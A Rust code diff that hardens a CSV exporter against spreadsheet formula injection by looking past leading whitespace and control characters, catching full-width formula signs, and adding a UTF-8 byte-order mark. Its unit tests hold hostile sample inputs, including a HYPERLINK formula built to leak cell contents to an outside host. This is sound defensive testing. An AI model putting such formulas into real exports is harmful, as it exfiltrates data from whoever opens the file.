@@ -39,13 +39,22 @@ pub struct Table {
     pub rows: Vec<Vec<Cell>>,
 }
 
-/// Makes text inert in a spreadsheet: a leading `=`, `+`, `-`, `@`, tab or carriage return
-/// would start a formula (CSV injection), so such text gets a leading `'`.
+/// Makes text inert when a spreadsheet opens it as CSV (CSV injection, as OWASP describes it).
+///
+/// A spreadsheet may strip leading spaces and control characters before it looks for a formula
+/// (LibreOffice drops a NUL, and with "trim spaces" the spaces), so the text is looked at after
+/// any leading whitespace and control characters (NUL, tab, CR, LF, vertical tab, form feed, no-
+/// break space, the ideographic space U+3000 ...): when it then begins with `=`, `+`, `-` or `@`,
+/// or their full-width forms `＝＋－＠`, the whole text gets a leading `'`, which the spreadsheet
+/// shows as text. A NUL is never written (no spreadsheet keeps one). Only CSV needs this: a
+/// workbook's text cells are never formulas, so they are written exactly as the return has them.
 pub fn neutralise(text: &str) -> Cow<'_, str> {
-    match text.chars().next() {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
-        _ => Cow::Borrowed(text),
-    }
+    let text: Cow<'_, str> = if text.contains('\0') { Cow::Owned(text.replace('\0', "")) } else { Cow::Borrowed(text) };
+    let first = text.chars().find(|c| !(c.is_whitespace() || c.is_control()));
+    let risky = matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
+        // A leading tab or CR is itself on OWASP's list.
+        || text.starts_with(['\t', '\r']);
+    if risky { Cow::Owned(format!("'{text}")) } else { text }
 }
 
 fn stage(s: Option<Stage>) -> Cell {
@@ -205,7 +214,9 @@ pub fn actions(c: &Collation) -> Table {
     Table { name: "Actions", headers, rows }
 }
 
-/// A table as CSV (RFC 4180, CRLF line ends), with formula-like text neutralised.
+/// A table as CSV (RFC 4180, CRLF line ends), with formula-like text neutralised, and a UTF-8
+/// byte-order mark first: without it Excel (UK) reads the file as Windows-1252 and shows "Siân"
+/// as "SiÃ¢n" and "£" as "Â£".
 pub fn to_csv(table: &Table) -> String {
     fn field(out: &mut String, text: &str) {
         let text = neutralise(text);
@@ -217,7 +228,7 @@ pub fn to_csv(table: &Table) -> String {
             out.push_str(&text);
         }
     }
-    let mut out = String::new();
+    let mut out = String::from('\u{FEFF}');
     let line = |out: &mut String, cells: Vec<Cow<'_, str>>| {
         for (i, c) in cells.iter().enumerate() {
             if i > 0 {
@@ -258,8 +269,21 @@ mod tests {
             ("\rx", "'\rx"),
             ("plain", "plain"),
             ("", ""),
+            // Behind what a spreadsheet strips first: NUL (removed), spaces, controls, NBSP.
+            ("\u{0}=1+1", "'=1+1"),
+            ("\u{0}\u{0}=HYPERLINK(\"http://x/?leak=\"&A2)", "'=HYPERLINK(\"http://x/?leak=\"&A2)"),
+            (" =1+1", "' =1+1"),
+            ("\n\u{b}\u{c}\u{a0}\u{3000}-2", "'\n\u{b}\u{c}\u{a0}\u{3000}-2"),
+            ("＝1+1", "'＝1+1"),
+            ("＋1", "'＋1"),
+            ("－1", "'－1"),
+            ("＠SUM(1)", "'＠SUM(1)"),
+            ("   plain", "   plain"),
+            ("a = b", "a = b"),
+            ("Siân – £1.2m", "Siân – £1.2m"),
+            ("x\u{0}y", "xy"),
         ] {
-            assert_eq!(neutralise(input), out);
+            assert_eq!(neutralise(input), out, "{input:?}");
         }
         let t = Table {
             name: "T",
@@ -269,6 +293,6 @@ mod tests {
                 vec![Cell::Text("a, \"b\"\nc".into()), Cell::Empty],
             ],
         };
-        assert_eq!(to_csv(&t), "a,b\r\n\"'=HYPERLINK(\"\"x\"\")\",2.5\r\n\"a, \"\"b\"\"\nc\",\r\n");
+        assert_eq!(to_csv(&t), "\u{FEFF}a,b\r\n\"'=HYPERLINK(\"\"x\"\")\",2.5\r\n\"a, \"\"b\"\"\nc\",\r\n");
     }
 }
